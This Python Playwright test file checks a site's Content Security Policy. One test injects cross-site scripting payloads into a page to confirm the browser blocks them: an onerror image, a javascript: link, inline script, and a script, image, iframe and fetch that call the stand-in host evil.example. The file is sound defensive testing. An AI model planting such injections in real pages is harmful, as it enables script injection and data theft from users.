"""A real browser under the policy of pages/ui/response_headers.py: it stops nothing of ours, and what is not ours."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import BrowserContext, Page

from pages.ui.handed_out import COOKIE
from tests.browser.conftest import NewPage, Open
from tests.browser.looking import Tab
from tests.pages.reading import TITLES
from tests.sampling import at_night, pairs, sample

WATCH = """addEventListener("securitypolicyviolation", (event) =>
  (window.kdStopped ??= []).push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`));"""
STOPPED = "() => window.kdStopped ?? []"
CHOSEN = {"skola": {"school": "kvartsskolan"}, "dialog": {"school": "kvartsskolan"}, "lara": {"school": "kvartsskolan"}}


@pytest.fixture(scope="module")
def watched(context: BrowserContext) -> Iterator[Page]:
    """A tab that notes what the policy stops, from the first byte of each page."""
    page = context.new_page()
    page.add_init_script(WATCH)
    yield page
    page.close()


@pytest.mark.parametrize(("path", "theme"), sample(pairs([*TITLES], ["light", "dark"]), 4))
def test_no_page_needs_more_than_the_policy_grants(watched, server, elsewhere, path, theme):
    watched.emulate_media(color_scheme=theme)
    tab = Tab(watched, server).go(path, **CHOSEN.get(path, {}))
    assert tab.page.evaluate(STOPPED) == [] and elsewhere == []


@at_night
def test_nor_do_files_a_grid_and_what_is_typed(watched, server, elsewhere):
    """A picture that the browser saves, a table's file, the texts that are saved at a pause, and an opened register."""
    tab = Tab(watched, server).go("skola", school="kvartsskolan")
    tab.page.get_by_text("Tabell, bild och data").first.click()
    for kind in ("SVG", "PNG", "CSV"):
        with watched.expect_download() as download:
            watched.get_by_text(kind, exact=True).first.click()
        assert download.value.path().stat().st_size > 100
    tab.go("dialog", school="kvartsskolan")
    watched.wait_for_function("() => window.kdCommits")
    tab.go("eu-projekt")
    assert watched.evaluate(STOPPED) == [] and elsewhere == []


def test_what_is_not_ours_is_stopped(watched, server):
    """A script that somebody got into a page, a picture from elsewhere that would tell who reads, a frame."""
    Tab(watched, server).go("oversikt")
    evil = '<img src="x:" onerror="window.kdRan = 2"><a id=kd href="javascript:kdRan = 3">x</a>'
    watched.evaluate(
        """(evil) => {
          const add = (name, told) => document.body.append(Object.assign(document.createElement(name), told));
          add("script", { textContent: "window.kdRan = 1" });
          add("script", { src: "https://evil.example/x.js" });
          add("img", { src: "https://evil.example/x.png" });
          add("iframe", { src: "https://evil.example/" });
          add("div", { innerHTML: evil });
          document.getElementById("kd").click();
          setTimeout(() => { window.kdRan = new Function("return 4")(); });  // outside of what the test itself may do
          fetch("https://evil.example/").catch(() => {});
        }""",
        evil,
    )
    watched.wait_for_timeout(300)
    stopped = watched.evaluate(STOPPED)
    assert watched.evaluate("() => window.kdRan") is None
    kinds = {"script-src-elem", "script-src-attr", "script-src", "img-src", "frame-src", "connect-src"}
    assert {each.partition(" ")[0] for each in stopped} == kinds


def test_the_browsers_own_cookie_is_none_of_the_scripts_business(open_tab: Open, new_page: NewPage, context):
    tab = open_tab("oversikt")
    assert COOKIE not in tab.page.evaluate("() => document.cookie")
    assert [cookie for cookie in context.cookies() if cookie["name"].startswith(COOKIE) and cookie["httpOnly"]]
